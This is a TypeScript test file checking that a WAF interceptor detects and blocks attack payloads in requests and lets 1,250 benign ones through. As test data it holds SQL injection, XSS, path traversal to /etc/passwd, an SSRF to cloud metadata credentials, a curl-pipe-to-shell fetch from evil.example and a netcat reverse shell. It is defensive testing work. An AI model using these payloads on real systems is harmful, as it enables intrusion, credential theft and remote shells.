/**
 * Detection quality with Datadog's recommended ruleset: real attack payloads (SQL injection,
 * XSS, path traversal, SSRF, shell injection, scanner user agents) in the query, the path,
 * headers, cookies, JSON and form bodies, in every front door's event shape, are each
 * detected with the expected category on the expected parameter; and 1,250 ordinary requests
 * (with their responses) produce no signal at all. Counts are printed for the record.
 */
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { WafEngine } from '../../src/agent/appsec/waf-engine.ts';
import { AppsecInterceptor } from '../../src/agent/appsec/appsec-interceptor.ts';
import { deniedNothing } from '../../src/agent/appsec/deny-list-client.ts';
import type { MetricPoint, SecuritySignal, TelemetrySink } from '../../src/agent/model.ts';
import { eventBuffer, eventShapes, triggerOfShape, type EventShape, type RequestSpec } from '../fixtures/appsec/http-events.ts';
import { benignCorpus } from '../fixtures/appsec/benign-corpus.ts';

let engine: WafEngine;
const signals: SecuritySignal[] = [];
const metrics: MetricPoint[] = [];
const sink: TelemetrySink = { addMetric: (p) => metrics.push(p), addSpans: () => {}, addLog: () => {}, addSecurity: (s) => signals.push(s) };
let interceptor: AppsecInterceptor;
let sequence = 0;

before(async () => {
  engine = await WafEngine.start();
  assert.equal(engine.available, true, engine.unavailableReason);
  // Block mode evaluates synchronously, so every result is known when the hook returns.
  interceptor = new AppsecInterceptor({ engine, sink, tagger: { tagRootSpan: () => {} }, mode: 'block', wafTimeoutMicros: 1_000_000, userClaim: 'sub', denyList: deniedNothing });
});
after(() => engine.dispose());

/** Sends one request (and its response, unless blocked); the signals it caused and whether it was blocked. */
function evaluate(shape: EventShape, spec: RequestSpec, response = '{"statusCode":200,"headers":{"content-type":"application/json"},"body":"{}"}') {
  const requestId = `req-${++sequence}`;
  const from = signals.length;
  const verdict = interceptor.onInvocationEvent({ requestId, event: eventBuffer(shape, spec), headers: {} });
  if (!verdict) interceptor.onInvocationResponse(requestId, Buffer.from(response));
  return { signals: signals.slice(from), blocked: verdict !== undefined };
}

const payloads = {
  sql_injection: ["1' OR '1'='1' --", '1 UNION SELECT username, password FROM users--', "' AND SLEEP(5)--"],
  xss: ['<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>'],
  lfi: ['../../../../etc/passwd', '/etc/shadow'],
  ssrf: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'gopher://127.0.0.1:6379/_INFO'],
  command_injection: ['$(curl http://evil.example/x.sh | sh)', '| nc -e /bin/sh 10.0.0.1 4444'],
} as const;
type Category = keyof typeof payloads;
const categories = Object.keys(payloads) as Category[];

const browser: Array<[string, string]> = [
  ['User-Agent', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15'],
  ['Accept', 'application/json'],
];

interface AttackCase {
  name: string;
  category: string;
  /** The signal must name a parameter starting with one of these. */
  parameters: string[];
  spec: RequestSpec;
  shapes: readonly EventShape[];
}

const apiGateway = ['api-gateway-rest', 'api-gateway-http'] as const;

function attackCases(): AttackCase[] {
  const cases: AttackCase[] = [];
  const base = (extra: Partial<RequestSpec>): RequestSpec => ({ method: 'POST', rawPath: '/orders', headers: [...browser], ...extra });
  for (const category of categories) {
    payloads[category].forEach((payload, i) => {
      const tag = `${category} #${i + 1}`;
      cases.push({ name: `query: ${tag}`, category, parameters: ['server.request.query.q'], shapes: eventShapes, spec: base({ method: 'GET', rawPath: '/search', rawQuery: `q=${encodeURIComponent(payload)}` }) });
      cases.push({ name: `cookie: ${tag}`, category, parameters: ['server.request.cookies.session'], shapes: eventShapes, spec: base({ method: 'GET', headers: [...browser, ['Cookie', `theme=dark; session=${encodeURIComponent(payload)}`]] }) });
      cases.push({
        name: `JSON body: ${tag}`,
        category,
        parameters: ['server.request.body.user.name'],
        shapes: eventShapes,
        spec: base({ headers: [...browser, ['Content-Type', 'application/json']], body: JSON.stringify({ user: { name: payload, age: 31 } }) }),
      });
      cases.push({
        name: `form body: ${tag}`,
        category,
        parameters: ['server.request.body.comment'],
        shapes: eventShapes,
        spec: base({ headers: [...browser, ['Content-Type', 'application/x-www-form-urlencoded']], body: new URLSearchParams({ email: 'a@example.com', comment: payload }).toString() }),
      });
    });
  }
  // Path parameters exist where a route template captured them: API Gateway.
  for (const [category, payload] of [
    ['sql_injection', '1 UNION SELECT username, password FROM users--'],
    ['xss', '<img src=x onerror=alert(1)>'],
    ['command_injection', '| nc -e /bin/sh 10.0.0.1 4444'],
    ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
  ] as const) {
    cases.push({
      name: `path parameter: ${category}`,
      category,
      parameters: ['server.request.path_params.id'],
      shapes: apiGateway,
      spec: { method: 'GET', rawPath: `/items/${encodeURIComponent(payload)}`, route: '/items/{id}', pathParameters: { id: payload }, headers: [...browser] },
    });
  }
  // A traversal in the path itself reaches every front door as the raw URI.
  cases.push({ name: 'path: traversal', category: 'lfi', parameters: ['server.request.uri.raw'], shapes: eventShapes, spec: { method: 'GET', rawPath: '/static/..%2f..%2f..%2f..%2fetc%2fpasswd', headers: [...browser] } });
  // Headers.
  const header = (name: string, value: string): RequestSpec => ({ method: 'GET', rawPath: '/', headers: [...browser, [name, value]] });
  cases.push({ name: 'header: traversal', category: 'lfi', parameters: ['server.request.headers.no_cookies.x-file'], shapes: eventShapes, spec: header('X-File', '../../../../etc/passwd') });
  cases.push({ name: 'header: XSS in Referer', category: 'xss', parameters: ['server.request.headers.no_cookies.referer'], shapes: eventShapes, spec: header('Referer', 'https://example.com/<script>alert(1)</script>') });
  cases.push({ name: 'header: SSRF', category: 'ssrf', parameters: ['server.request.headers.no_cookies.x-callback-url'], shapes: eventShapes, spec: header('X-Callback-Url', 'gopher://127.0.0.1:6379/_INFO') });
  cases.push({ name: 'header: shell injection', category: 'command_injection', parameters: ['server.request.headers.no_cookies.x-build'], shapes: eventShapes, spec: header('X-Build', '$(curl http://evil.example/x.sh | sh)') });
  for (const ua of ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', 'Arachni/v1.5.1']) {
    cases.push({
      name: `scanner user agent: ${ua.split(/[/ (]/)[ua.startsWith('Mozilla') ? 3 : 0]}`,
      category: 'attack_tool',
      parameters: ['server.request.headers.no_cookies.user-agent'],
      shapes: eventShapes,
      spec: { method: 'GET', rawPath: '/', headers: [['User-Agent', ua]] },
    });
  }
  return cases;
}

describe('attacks are detected with the expected category, in every event shape', () => {
  const cases = attackCases();
  const tally = { requests: 0, detected: 0, blocked: 0 };
  const byCategory = new Map<string, number>();

  for (const attack of cases) {
    for (const shape of attack.shapes) {
      test(`${attack.name} (${shape})`, () => {
        const result = evaluate(shape, attack.spec);
        tally.requests++;
        const ofCategory = result.signals.filter((s) => s.category === attack.category);
        assert.ok(ofCategory.length > 0, `expected ${attack.category}, got ${JSON.stringify(result.signals.map((s) => [s.ruleId, s.category, s.parameter]))}`);
        assert.ok(
          ofCategory.some((s) => attack.parameters.some((p) => s.parameter.startsWith(p))),
          `expected a match on ${attack.parameters.join(' or ')}, got ${ofCategory.map((s) => s.parameter).join(', ')}`,
        );
        for (const s of ofCategory) {
          assert.equal(s.trigger, triggerOfShape[shape]);
          assert.match(s.ruleId, /\S/);
          assert.match(s.ruleName, /\S/);
          assert.equal(s.blocked, true);
        }
        assert.equal(result.blocked, true, 'block mode blocks every attack attempt of the recommended ruleset');
        tally.detected++;
        tally.blocked++;
        byCategory.set(attack.category, (byCategory.get(attack.category) ?? 0) + 1);
      });
    }
  }

  test('totals', () => {
    const expected = cases.reduce((n, c) => n + c.shapes.length, 0);
    process.stdout.write(`# attack requests: ${tally.requests}, detected: ${tally.detected}, blocked: ${tally.blocked}; by category: ${JSON.stringify(Object.fromEntries(byCategory))}\n`);
    // 12 payloads x 4 placements x 5 shapes, 4 path parameters x 2, traversal x 5, 4 headers x 5, 3 scanners x 5.
    assert.equal(expected, 288);
    assert.equal(tally.requests, expected);
    assert.equal(tally.detected, expected);
  });
});

describe('ordinary traffic raises nothing', () => {
  test('1,250 benign requests and their responses: zero signals, zero blocks', () => {
    const corpus = benignCorpus();
    assert.equal(corpus.length, 1250);
    const perShape = new Map<string, number>();
    let flagged = 0;
    let blocked = 0;
    const firstFew: string[] = [];
    const attacksBefore = metrics.filter((m) => m.name === 'nimbus.appsec.attacks').length;
    for (const request of corpus) {
      perShape.set(request.shape, (perShape.get(request.shape) ?? 0) + 1);
      const result = evaluate(request.shape, request.spec, JSON.stringify(request.response));
      if (result.blocked) blocked++;
      if (result.signals.length > 0) {
        flagged++;
        if (firstFew.length < 5) firstFew.push(`${request.kind} (${request.shape}): ${result.signals.map((s) => `${s.ruleId} ${s.parameter}=${s.value}`).join('; ')}`);
      }
    }
    process.stdout.write(`# benign requests: ${corpus.length} (${JSON.stringify(Object.fromEntries(perShape))}), flagged: ${flagged}, blocked: ${blocked}\n`);
    assert.deepEqual(firstFew, []);
    assert.equal(flagged, 0);
    assert.equal(blocked, 0);
    assert.equal(metrics.filter((m) => m.name === 'nimbus.appsec.attacks').length, attacksBefore);
  });
});
